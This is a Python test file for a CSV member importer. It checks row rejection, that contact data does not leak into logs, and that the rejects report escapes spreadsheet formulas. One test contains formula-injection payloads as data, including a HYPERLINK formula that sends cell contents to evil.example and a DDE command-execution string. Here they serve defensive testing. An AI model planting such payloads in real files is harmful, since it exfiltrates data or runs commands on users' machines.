"""CSV import under hostile or damaged input: every bad row is rejected with its physical line and column,
every valid row beside it is imported, a file is refused only before anything is written, and nothing
printed, logged or reported repeats an e-mail address or a phone number.

Database tests run on SQLite and PostgreSQL (the ``engine`` / ``db_url`` fixtures).
"""

from __future__ import annotations

import csv
import logging
import re
from pathlib import Path

import pytest
import sqlalchemy as sa
from test_import import MEMBER_HEADER, imp, member_row, read_rejects, write_csv

from membercare.importer import spreadsheet_cell

LEAN = "member_id,name,email,phone,joined_at"


def lean_row(i: int, name: str | None = None) -> str:
    """One line of a lean members file; every member has an e-mail address and a phone number to leak."""
    return f"M{i:04d},{name if name is not None else f'Member {i}'},{email(i)},{phone(i)},2024-01-{1 + i % 27:02d}"


def email(i: int) -> str:
    return f"member{i}@example.com"


def phone(i: int) -> str:
    return f"0912345{i:03d}"


def write_lines(path: Path, lines: list[str | bytes], *, newline: bytes = b"\n") -> Path:
    """A file of exactly these physical lines (bytes are written as they are, text as UTF-8)."""
    path.write_bytes(newline.join(x if isinstance(x, bytes) else x.encode() for x in lines) + newline)
    return path


def stored_members(engine, table: str = "members") -> dict[str, str]:
    with engine.connect() as conn:
        return dict(conn.execute(sa.text(f"SELECT external_id, name FROM {table}")).all())


def rejects_by_line(report) -> dict[int, str]:
    return {int(x["line"]): x["reason"] for x in read_rejects(report.rejects_path)} if report.rejects_path else {}


def assert_no_contact_data(*texts: str, n: int = 60) -> None:
    """None of the texts holds any member's e-mail address or phone number (local or E.164)."""
    blob = "\n".join(texts)
    for i in range(n):
        for secret in (email(i), phone(i), "+886" + phone(i)[1:]):
            assert secret not in blob, f"{secret} was printed"


@pytest.fixture
def quiet(capsys, caplog):
    """What the import printed and logged, for the no-personal-data checks."""
    caplog.set_level(logging.DEBUG)

    def collected() -> str:
        out, err = capsys.readouterr()
        return out + err + caplog.text

    return collected


# ---------------------------------------------------------------------------------------------------------------------
# The rejects report is opened in spreadsheets


def test_rejects_report_cells_cannot_run_as_formulas(engine, tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
               "\tTAB", "\r=1+2"]
    rows = [member_row(i, name=h, email="bad") for i, h in enumerate(hostile, 1)]
    rows.append(member_row(9, points_balance="-5"))  # a plain negative number is no formula
    f = write_csv(tmp_path / "members.csv", [*MEMBER_HEADER, "=notes"], [[*r, "=1+1"] for r in rows])
    r = imp(engine, "members", f, allow_extra_columns=True)
    assert r.rejected == len(rows)
    with open(r.rejects_path, newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    assert table[0][-3:] == ["'=notes", "line", "reason"]
    # Cells are trimmed when imported but written to the report as they were read.
    assert [row[1] for row in table[1:]] == [
        "'" + hostile[0], "'" + hostile[1], "'-2+3", "'@SUM(1+1)", "'\tTAB", "'\r=1+2", "Member 9"]
    assert table[-1][MEMBER_HEADER.index("points_balance")] == "-5"
    assert all(row[-3] == "'=1+1" for row in table[1:])
    for row in table:
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r" and not re.match(r"-\D", cell), row


def test_spreadsheet_cell():
    assert spreadsheet_cell("=1+1") == "'=1+1" and spreadsheet_cell("@x") == "'@x"
    assert spreadsheet_cell("-5") == "-5" and spreadsheet_cell("+886912345678") == "+886912345678"
    assert spreadsheet_cell("-1,200.50") == "-1,200.50" and spreadsheet_cell("-1+1") == "'-1+1"
    assert spreadsheet_cell("plain") == "plain" and spreadsheet_cell("") == ""
    assert spreadsheet_cell("a\udcb3") == "a\ufffd"
